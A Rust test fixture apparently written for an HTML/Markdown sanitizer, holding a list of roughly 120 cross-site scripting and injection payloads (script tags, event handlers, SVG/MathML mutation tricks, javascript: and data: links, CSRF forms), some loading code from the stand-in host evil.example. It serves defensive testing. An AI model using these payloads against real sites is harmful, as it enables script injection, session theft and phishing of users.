//! Texts written to break out of a page. None may.

/// One attempt a line; `⏎` stands for a line break.
pub(super) const ATTEMPTS: &str = r#"
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
</p><script>alert(1)</script><p>
<img src=x onerror=alert(1)>
<img/src=`x`onerror=alert(1)>
<IMG """><SCRIPT>alert(1)</SCRIPT>">
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>
<svg><animate attributeName=href values=javascript:alert(1) /></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<title><a href="</title><img src=x onerror=alert(1)>">
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<embed src=//evil.example/x.swf>
<base href="//evil.example/">
<meta http-equiv="refresh" content="0;url=//evil.example">
<link rel=stylesheet href=//evil.example/x.css>
<style>@import '//evil.example/x.css';</style>
<p style="background:url(javascript:alert(1))">x</p>
<div class="banner" id="csrf">pretend</div>
<form action=//evil.example><input name=csrf><button>Come in</button></form>
<a href="javascript:alert(1)">x</a>
<a href="https://a.example" onclick="alert(1)" target="_top" style="position:fixed;inset:0">x</a>
<details open ontoggle=alert(1)>x</details>
<body onload=alert(1)>
<video><source onerror="alert(1)"></video>
<audio src=x onerror=alert(1)>
<input autofocus onfocus=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<template><script>alert(1)</script></template>
<custom-element onclick=alert(1)>x</custom-element>
<!--><img src=x onerror=alert(1)>-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?php echo 1 ?><img src=x onerror=alert(1)>
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](java	script:alert(1))
[x](&#106;avascript:alert(1))
[x](&#x6A;&#x61;vascript&colon;alert(1))
[x](javascript&#58;alert(1))
[x](&Tab;javascript:alert(1))
[x](<javascript:alert(1)>)
[x](< javascript:alert(1)>)
[x](%6A%61vascript:alert(1))
[x](javascript://a.example/%0Aalert(1))
[x](vbscript:msgbox(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](data:image/svg+xml,<svg onload=alert(1)>)
[x](file:///etc/passwd)
[x](blob:https://a.example/1)
[x](//evil.example)
[x](/logout)
[x](https://you:secret@a.example/)
[x](https://a.example/" onmouseover="alert(1))
[x](https://a.example/ "title\" onmouseover=\"alert(1)")
[x](https://a.example/ '"><script>alert(1)</script>')
[x](https://a.example/`onmouseover=alert(1))
[a]⏎⏎[a]: javascript:alert(1)
[a]⏎⏎[a]: https://a.example "x\" onclick=\"alert(1)"
[![x](javascript:alert(1))](javascript:alert(1))
[![x](https://a.example/1.png)](https://b.example)
[[x](https://a.example)](https://b.example)
![x](javascript:alert(1))
![x](https://a.example/pixel.gif)
![](https://a.example/pixel.gif)
![<img src=x onerror=alert(1)>](https://a.example/x "y")
![x" onerror="alert(1)](https://a.example/x)
<javascript:alert(1)>
<https://a.example/"onmouseover="alert(1)>
<https://a.example/<script>alert(1)</script>>
https://a.example/"onmouseover="alert(1)
https://a.example/'><script>alert(1)</script>
www.a.example/<img src=x onerror=alert(1)>
me@a.example"><script>alert(1)</script>
mailto:me@a.example?body=<script>
javascript:alert(1)
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;img src=x onerror=alert(1)&#62;
`<img src=x onerror=alert(1)>`
``` "onmouseover="alert(1)⏎<script>alert(1)</script>⏎```
```<script>⏎x⏎```
~~~ x" class="y⏎<style>*{}</style>⏎~~~
    <script>alert(1)</script>
# <img src=x onerror=alert(1)>
## x {#id onclick=alert(1)}
> <script>alert(1)</script>
- <script>alert(1)</script>
1. <svg onload=alert(1)>
| a | b |⏎|---|---|⏎| <script> | x |
*<em onclick=alert(1)>*
**</strong><script>alert(1)</script>**
~~</del><script>alert(1)</script>~~
\<script\>alert(1)\</script\>
<a href="https://a.example">⏎⏎*x*⏎⏎</a>
<p⏎onclick=alert(1)⏎>x</p>
"#;
